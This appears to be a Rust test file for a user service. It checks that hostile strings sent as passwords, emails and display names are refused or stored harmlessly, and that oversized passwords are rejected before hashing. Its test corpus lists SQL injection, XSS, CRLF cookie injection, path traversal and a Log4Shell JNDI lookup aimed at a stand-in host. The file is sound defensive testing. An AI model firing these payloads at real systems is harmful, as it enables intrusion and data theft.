//! What may not be tried at the front door, where all tests share one address and wrong passwords are counted by it.

use http::Method;
use serde_json::json;
use tradewind_contract::users::Role;
use tradewind_user::config::Limits;
use uuid::Uuid;

use crate::harness::{App, PASSWORD, unthrottled};

const ADA: &str = "ada@example.com";
const CORPUS: [&str; 9] = [
    "' OR '1'='1' --",
    "'; DROP TABLE users; --",
    "$argon2id$v=19$m=19456,t=2,p=1$AAAA$AAAA",
    "<script>alert(1)</script>",
    "x\r\nSet-Cookie: refresh=injected",
    "../../../../etc/passwd",
    "${jndi:ldap://evil.example/x}",
    "\u{202e}\u{2028}\u{feff}\u{10ffff}",
    "a\u{0}b",
];

#[tokio::test]
async fn a_hostile_password_is_a_wrong_one() {
    let Some(app) = App::start_with(unthrottled()).await else { return };
    let ada = app.shopper(ADA).await;
    for text in CORPUS {
        let (log_in, change) = if text.contains('\0') {
            ((422, "validation_failed"), "validation_failed")
        } else {
            ((401, "credentials_invalid"), "password_wrong")
        };
        app.log_in(ADA, text).await.assert_refused(log_in.0, log_in.1);
        let answer = app
            .call(Method::PUT, "/users/me/password", Some(&ada.token), Some(json!({"current": text, "new": "another short sentence"})))
            .await;
        answer.assert_refused(422, change);
        for field in ["email", "display_name"] {
            let mut body = json!({"email": "eve@example.com", "password": PASSWORD, "display_name": "Eve"});
            body[field] = json!(text);
            let answer = app.post("/users", None, body).await;
            assert!(matches!(answer.status.as_u16(), 201 | 409 | 422), "{field} {text:?}: {}", answer.body);
            let injected = answer.headers.get_all("set-cookie").iter().any(|cookie| cookie.to_str().unwrap().contains("injected"));
            assert!(!injected, "{field} {text:?}");
        }
    }
    // As a new password it is as good as any: what was set is what opens.
    for (index, text) in CORPUS.into_iter().filter(|text| !text.contains('\0') && text.chars().count() >= 12).enumerate() {
        let email = format!("user{index}@example.com");
        let answer = app.post("/users", None, json!({"email": email, "password": text, "display_name": "Eve"})).await;
        assert_eq!(answer.status, 201, "{text:?}: {}", answer.body);
        app.log_in(&email, text).await.held();
        app.log_in(&email, &format!("{text} ")).await.assert_refused(401, "credentials_invalid");
    }
    assert_eq!(app.get("/users/me", &ada.token).await.status, 200);
}

#[tokio::test]
async fn a_password_of_10_kb_is_422_and_never_hashed() {
    // Nothing can be hashed here: whoever tried would be told 503.
    let Some(app) = App::start_with(Limits { hash_slots: 0, hash_queue: 0, ..Limits::default() }).await else { return };
    app.log_in(ADA, PASSWORD).await.assert_refused(503, "log_in_busy");
    let token = app.state.signer.access_token(Uuid::now_v7().into(), Uuid::now_v7().into(), Role::Shopper).unwrap();
    let giant = "x".repeat(10_000);
    for (method, path, body, field) in [
        (Method::POST, "/users", json!({"email": ADA, "password": giant, "display_name": "Ada"}), "/password"),
        (Method::POST, "/sessions", json!({"email": ADA, "password": giant}), "/password"),
        (Method::PUT, "/users/me/password", json!({"current": giant, "new": "another short sentence"}), "/current"),
        (Method::PUT, "/users/me/password", json!({"current": PASSWORD, "new": giant}), "/new"),
    ] {
        let answer = app.call(method, path, Some(&token), Some(body)).await;
        answer.assert_refused(422, "validation_failed");
        assert_eq!(answer.body["errors"][0]["field"], field, "{path}");
    }
    let counted: i64 = sqlx::query_scalar("SELECT count(*) FROM login_failures").fetch_one(&app.database).await.unwrap();
    assert_eq!(counted, 0, "none of these was a guess");
}
